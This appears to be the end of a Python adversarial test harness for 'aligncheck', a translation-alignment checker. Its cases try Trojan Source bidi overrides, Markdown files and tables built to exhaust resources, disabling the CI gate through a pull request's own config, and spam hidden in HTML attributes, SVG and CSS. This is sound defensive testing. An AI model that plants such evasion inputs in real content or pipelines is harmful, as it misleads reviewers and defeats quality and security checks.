@case("A14", "medium", "a bidi override in the translation displays 250 as 052 (Trojan Source): no finding")
def a14(ctx: Ctx) -> tuple[bool, str]:
    return _md_hidden(ctx, EN.replace("about 250 beds", "about \u202e250\u202c beds"))



@case("A15", "medium", "Markdown is parsed whole before the segment bound: a 1 MB list costs ~2 min and ~0.7 GB before refusal")
def a15(ctx: Ctx) -> tuple[bool, str]:
    root = ctx.folder("mdsize")
    write(root, "ar.md", "مرحبا بالعالم.\n")
    write(root, "en.md", "- a\n" * 250_000)
    t = time.monotonic()
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", "-o", "out.json", cwd=root, fake=True, timeout=400,
               mem_gib=6)
    secs = time.monotonic() - t
    return secs > 30, f"1,000,000 bytes: exit {r.rc} after {secs:.0f} s; {r.err.strip()[:110]!r}"



@case("A16", "low", "the Action on a merge_group event runs ci without --base: the PR's project file (fail_on=never) sets the gate")
def a16(ctx: Ctx) -> tuple[bool, str]:
    root = md_repo(ctx, "mergeq")
    write(root, "aligncheck.toml", 'fail_on = "never"\n[[pairs]]\nsource = "content/ar/*.md"\ntarget = "content/en/{name}"\n')
    write(root, "content/en/a.md", SPAM + "\n")
    commit(root)
    base = git(root, "rev-parse", "main").strip()
    event, out = root.parent / "mg-event.json", root.parent / "mg-output"
    event.write_text(json.dumps({"merge_group": {"base_sha": base, "head_sha": git(root, "rev-parse", "HEAD").strip()}}))
    out.write_text("")
    env = ctx.env({"GITHUB_EVENT_PATH": str(event), "GITHUB_OUTPUT": str(out)})
    shim = root.parent / "bin"
    shim.mkdir(exist_ok=True)
    (shim / "aligncheck").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m aligncheck "$@"\n')
    (shim / "aligncheck").chmod(0o755)
    env["PATH"] = f"{shim}:{env['PATH']}"
    r = ctx.run(["bash", str(ctx.checkout / "action" / "run.sh")], cwd=root, env=env)
    return r.rc == 0, f"exit {r.rc}; {(r.out.strip().splitlines() or [''])[-1][:120]!r}"



@case("A15b", "medium", "a 22-line Markdown table of 660,000 cells is parsed whole before the segment bound (~150 s, ~1 GB)")
def a15b(ctx: Ctx) -> tuple[bool, str]:
    root = ctx.folder("mdtable")
    write(root, "ar.md", "مرحبا بالعالم.\n")
    n = 30000
    write(root, "en.md", "|" + "a|" * n + "\n|" + "-|" * n + "\n" + ("|" + "b|" * n + "\n") * 20)
    t = time.monotonic()
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", "-o", "out.json", cwd=root, fake=True, timeout=400,
               mem_gib=6)
    secs = time.monotonic() - t
    return secs > 30, f"1,320,044 bytes in 22 lines: exit {r.rc} after {secs:.0f} s; {r.err.strip()[:100]!r}"


@case("A10b", "medium", "batch: rows naming copies of one file (git stores one blob) still amplify (1 vs 8 rows)")
def a10b(ctx: Ctx) -> tuple[bool, str]:
    sys.path.insert(0, str(ROOT))
    from tests.fakes import make_parallel, make_vocabulary
    root = ctx.folder("amp2")
    ar, en, _ = make_parallel(3000, seed=0, vocab=make_vocabulary(seed=0))
    out = {}
    for n in (1, 8):
        for k in range(n):
            write(root, f"c{n}/ar{k}.txt", "\n".join(ar) + "\n")
            write(root, f"c{n}/en{k}.txt", "\n".join(en) + "\n")
        write(root, f"m{n}.tsv", "id\tsource\ttarget\n" + "".join(f"r{k}\tc{n}/ar{k}.txt\tc{n}/en{k}.txt\n" for k in range(n)))
        r = ctx.ac("batch", f"m{n}.tsv", "-o", f"o{n}.jsonl", "-q", cwd=root, fake=True, timeout=900)
        size = (root / f"o{n}.jsonl").stat().st_size if (root / f"o{n}.jsonl").exists() else 0
        out[n] = (r.rc, round(r.seconds, 1), size, r.err.strip()[:80])
    grew = out[8][2] > 4 * out[1][2]
    return grew, f"1 row: exit {out[1][0]}, {out[1][1]} s, {out[1][2]:,} bytes; 8 rows of copies: exit {out[8][0]}, {out[8][1]} s, {out[8][2]:,} bytes {out[8][3]!r}"


@case("A14b", "medium", "the bidi check is dodged by a harmless override on the Arabic side of the same pair")
def a14b(ctx: Ctx) -> tuple[bool, str]:
    root = ctx.folder("bidi2")
    ar = (MD_PAIR / "ar.md").read_text(encoding="utf-8").replace("سريرًا", "\u202eسريرًا\u202c")
    write(root, "ar.md", ar)
    write(root, "en.md", EN.replace("about 250 beds", "about \u202e250\u202c beds"))
    r = ctx.ac("check", "ar.md", "en.md", "--format", "json", cwd=root)
    counts = summary(r).get("counts", {})
    extra = {k: v for k, v in counts.items() if k != "tokens"}
    return (r.rc == 0 and not extra), f"exit {r.rc}, counts {counts}"



@case("A2c", "low", "(re-attack of the A2 fix) HTML that shows text outside element text: <input value>, <svg><text>, CSS content, <textarea>")
def a2c(ctx: Ctx) -> tuple[bool, str]:
    res = []
    for name, block in (("input value", f'<p><input value="{SPAM}" size="80"></p>'),
                        ("svg text", f"<svg width='900' height='20'><text x='0' y='15'>{SPAM}</text></svg>"),
                        ("css content", f'<style>h1::after {{ content: " {SPAM}" }}</style>'),
                        ("textarea", f"<textarea cols='80'>{SPAM}</textarea>"),
                        ("button", f"<button>{SPAM}</button>"),
                        ("iframe srcdoc", f'<iframe srcdoc="<p>{SPAM}</p>"></iframe>')):
        bad, detail = _md_hidden(ctx, EN + "\n" + block + "\n")
        res.append((name, bad, detail))
    return any(b for _, b, _ in res), "; ".join(f"{n}: {'passed' if b else 'caught'} ({d})" for n, b, d in res)


# ------------------------------------------------------------------------------------- main


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--checkout", default=str(ROOT), help="the aligncheck checkout to attack (default: this one)")
    ap.add_argument("--only", default="", help="comma-separated case ids (default: all)")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args(argv)
    if a.list:
        for c in CASES:
            print(f"{c.id}\t{c.severity}\t{c.title}")
        return 0
    only = {x.strip() for x in a.only.split(",") if x.strip()}
    bad = 0
    print("| # | severity | attack | result | detail |\n|---|---|---|---|---|")
    with tempfile.TemporaryDirectory(prefix="attack19-") as tmp:
        ctx = Ctx(Path(a.checkout).resolve(), Path(tmp))
        for c in CASES:
            if only and c.id not in only:
                continue
            try:
                vulnerable, detail = c.run(ctx)
            except Exception as e:  # a case that cannot run says so
                vulnerable, detail = True, f"case error: {type(e).__name__}: {e}"
            bad += vulnerable
            detail = detail.replace("|", "\\|").replace("\n", " ")
            print(f"| {c.id} | {c.severity} | {c.title} | {'VULNERABLE' if vulnerable else 'ok'} | {detail} |",
                  flush=True)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
